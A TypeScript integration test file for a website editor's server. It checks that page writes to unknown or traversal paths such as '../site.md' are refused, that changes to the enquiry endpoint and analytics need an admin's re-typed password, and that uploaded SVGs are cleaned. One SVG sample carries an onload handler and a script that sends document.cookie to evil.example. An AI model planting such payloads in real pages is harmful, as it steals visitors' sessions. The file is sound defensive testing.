// What an editor could put live unseen, tried through the real server app with a real database: a page text that
// belongs to no page, the address enquiries go to, analytics, a script inside an SVG. Each is refused or made safe.
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listAudit } from '../../../server/db/audit.js';
import { PASSWORD, startEditorApp, type EditorTestApp } from '../../support/editor-auth-app.js';

let test: EditorTestApp;
const as: Record<string, Record<string, string>> = {};
beforeAll(async () => {
  test = await startEditorApp();
  await test.addPeople();
  for (const role of ['admin', 'editor', 'publisher'] as const) as[role] = await test.session(role);
}, 120_000);
afterAll(() => test.close());

const call = (role: string, method: 'GET' | 'POST' | 'PUT', url: string, payload?: unknown, headers: Record<string, string> = {}) =>
  test.app.inject({ method, url, headers: { ...as[role], 'x-draft': `guards-${role}`, ...headers }, payload: payload as never });

describe('page texts', { timeout: 60_000 }, () => {
  it('are written only for pages the site has, in English or Arabic; any other file is refused with its name', async () => {
    for (const file of ['public/notice.md', 'notes.md', '../site.md', 'services/no-such-page.md']) {
      const response = await call('editor', 'PUT', '/edit/api/body', { file, text: 'Wire payments to IBAN AE00 0000' });
      expect(response.statusCode, file).toBe(400);
      expect(response.json().message).toContain(file);
    }
    expect(existsSync(join(test.root, 'content/public/notice.md'))).toBe(false);
    for (const file of ['services/cfo-services.md', 'ar/services/cfo-services.md']) {
      expect((await call('editor', 'PUT', '/edit/api/body', { file, text: '# CFO services\n\nNew words.' })).statusCode, file).toBe(200);
    }
    await call('editor', 'POST', '/edit/api/reload');
  });
});

describe('settings that decide where visitors’ data goes', { timeout: 60_000 }, () => {
  const withApi = async (role: string, base: string) => {
    const value = (await call(role, 'GET', '/edit/api/sections/api')).json().value;
    return call(role, 'PUT', '/edit/api/sections/api', { value: { ...value, base } });
  };

  it('are refused to an editor and a publisher, naming the setting, and nothing is saved', async () => {
    for (const role of ['editor', 'publisher']) {
      const refused = await withApi(role, 'https://collector.example');
      expect(refused.statusCode, role).toBe(403);
      expect(refused.json().message).toContain('Only an admin can change the address the contact form sends enquiries to');
      const analytics = await call(role, 'PUT', '/edit/api/sections/analytics', { value: { tagManagerId: 'GTM-EVIL123' } });
      expect(analytics.statusCode, role).toBe(403);
      expect((await call(role, 'GET', '/edit/api/state')).json().dirty).toBe(false);
    }
    expect(readFileSync(join(test.root, 'site.yaml'), 'utf8')).not.toMatch(/collector\.example|GTM-EVIL/);
  });

  it('are taken from an admin only after the password is typed again, and the check is logged', async () => {
    const asked = await withApi('admin', 'https://api.example.com');
    expect(asked.statusCode).toBe(403);
    expect(asked.json()).toMatchObject({ reason: 'confirm-password' });
    const wrong = await call('admin', 'POST', '/edit/api/confirm-password', { password: 'not-it' });
    expect(wrong.statusCode).toBe(400);
    expect(wrong.json().errors).toEqual([{ field: 'password', message: 'wrong' }]);
    expect((await call('admin', 'POST', '/edit/api/confirm-password', { password: PASSWORD.admin })).statusCode).toBe(200);
    expect((await withApi('admin', 'https://api.example.com')).statusCode).toBe(200);
    const versions = (await call('admin', 'GET', '/edit/api/state')).json().versions;
    expect((await call('admin', 'POST', '/edit/api/save', { versions })).statusCode).toBe(200);
    expect(readFileSync(join(test.root, 'site.yaml'), 'utf8')).toContain('base: https://api.example.com');
    expect(listAudit(test.db, 20).map((entry) => entry.action)).toContain('password confirmed');
    // Another session of the same admin has not typed it.
    const other = await test.session('admin');
    const value = (await test.app.inject({ url: '/edit/api/sections/api', headers: { ...other, 'x-draft': 'guards-admin-2' } })).json().value;
    const again = await test.app.inject({
      method: 'PUT',
      url: '/edit/api/sections/api',
      headers: { ...other, 'x-draft': 'guards-admin-2' },
      payload: { value: { ...value, base: '/api' } },
    });
    expect(again.json()).toMatchObject({ reason: 'confirm-password' });
  });
});

describe('uploads', { timeout: 60_000 }, () => {
  it('take an SVG without its script, event handlers or outside references', async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="alert(1)">
<script>fetch('https://evil.example/?c='+document.cookie)</script><image xlink:href="https://evil.example/x.png"/>
<rect width="10" height="10" fill="#0b2a4a"/></svg>`;
    const response = await call('editor', 'POST', '/edit/api/upload', Buffer.from(svg), { 'content-type': 'image/svg+xml', 'x-file-name': 'Logo.svg' });
    expect(response.statusCode).toBe(200);
    expect(response.json().path).toBe('/images/uploads/logo.svg');
    // Kept with the editor's draft, not among the site's files, until a save uses it.
    const file = join(test.root, 'content/public/images/uploads/logo.svg');
    expect(existsSync(file)).toBe(false);
    const state = (await call('editor', 'GET', '/edit/api/state')).json();
    const index = state.routes.findIndex((route: { path: string }) => route.path === '/services/cfo-services');
    const route = (await call('editor', 'GET', `/edit/api/routes/${index}`)).json().route;
    expect((await call('editor', 'PUT', `/edit/api/routes/${index}`, { route: { ...route, image: '/images/uploads/logo.svg' } })).json().problems).toEqual([]);
    const versions = (await call('editor', 'GET', '/edit/api/state')).json().versions;
    expect((await call('editor', 'POST', '/edit/api/save', { versions })).statusCode).toBe(200);
    const saved = readFileSync(file, 'utf8');
    expect(saved).toContain('<rect width="10" height="10" fill="#0b2a4a"/>');
    expect(saved).not.toMatch(/script|onload|evil\.example/i);
  });
});
